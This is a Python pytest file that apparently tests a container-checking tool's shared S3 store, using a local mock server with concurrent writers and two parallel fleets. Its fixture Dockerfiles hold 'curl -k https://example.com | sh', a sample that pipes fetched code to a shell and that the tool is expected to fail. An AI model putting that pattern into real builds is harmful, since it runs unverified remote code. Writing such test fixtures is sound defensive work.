"""A store in a server that speaks S3 (moto's), which two fleets fill at the same time.

It goes through `gate/fleet/store_files.py`.
"""

import gc
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

moto = pytest.importorskip("moto.server")
pytest.importorskip("s3fs")

pytestmark = pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")

GATE = [sys.executable, "-m", "gate"]
STORE = "s3://fleet/gate"


@pytest.fixture
def s3(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, str]]:
    """Yield the environment in which S3 is a server on loopback with the bucket `fleet`."""
    server = moto.ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    settings = {
        "AWS_ENDPOINT_URL": f"http://{host}:{port}",
        "AWS_ACCESS_KEY_ID": "test",
        "AWS_SECRET_ACCESS_KEY": "test",  # pragma: allowlist secret
        "AWS_DEFAULT_REGION": "us-east-1",
        "AWS_EC2_METADATA_DISABLED": "true",
    }
    for name, value in settings.items():
        monkeypatch.setenv(name, value)
    import s3fs

    s3fs.S3FileSystem(skip_instance_cache=True).makedirs("fleet", exist_ok=True)
    yield {**os.environ, **settings}
    server.stop()
    s3fs.S3FileSystem.clear_instance_cache()
    gc.collect()  # connections that s3fs forgets are noticed here, where it is expected


def test_of_many_writers_one_makes_a_file_and_it_is_whole(s3: dict[str, str]) -> None:
    from gate.fleet.store_files import open_files

    contents = [bytes([number]) * 100_000 for number in range(8)]
    won: list[bytes] = []

    def write(content: bytes) -> None:
        if open_files(STORE).create("ledger/one", content):
            won.append(content)

    writers = [threading.Thread(target=write, args=(content,)) for content in contents]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join()
    files = open_files(STORE)
    assert won == [files.read("ledger/one")]
    assert list(files.names("ledger")) == ["ledger/one"]
    files.delete("ledger/one")
    assert files.read("ledger/one") is None
    files.delete("ledger/one")


def test_two_fleets_fill_one_store_and_each_target_is_judged_once(tmp_path: Path, s3: dict[str, str]) -> None:
    for number in range(4):
        (tmp_path / f"code{number}").mkdir()
        (tmp_path / f"code{number}/Dockerfile").write_text("FROM scratch\nRUN curl -k https://example.com | sh\n")
    gate("store", "init", "--store", STORE, "--organisation", "Example", env=s3)
    words = ["fleet", "run", *(str(tmp_path / f"code{number}") for number in range(4)), "--run", "night"]
    words += ["--store", STORE, "--options", "--stage dockerfile --offline", "--at-once", "1"]
    fleets = [
        subprocess.Popen([*GATE, *words], env=s3, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(2)
    ]
    for fleet in fleets:
        said, errors = fleet.communicate(timeout=300)
        assert (fleet.returncode, said.splitlines()[0]) == (
            1,
            "4 targets: 0 pass, 4 fail, 0 incomplete; 0 left to another process",
        ), errors
    assert "records: 4," in gate("store", "info", "--store", STORE, env=s3)
    words = ["--format", "json", "--accept-unread", "100"]  # they were judged by one stage, without their packages
    found = gate("fleet", "find", "file:Dockerfile", "--store", STORE, *words, env=s3)
    assert {Path(row["name"]).name for row in json.loads(found)["found"]} == {f"code{number}" for number in range(4)}
    gate("store", "verify", "--store", STORE, "--organisation", "Example", env=s3)
    refused = subprocess.run(
        [*GATE, "store", "info", "--store", STORE, "--organisation", "Other"], env=s3, capture_output=True, check=False
    )
    assert refused.returncode == 2


def gate(*words: str, env: dict[str, str]) -> str:
    done = subprocess.run([*GATE, *words], env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout
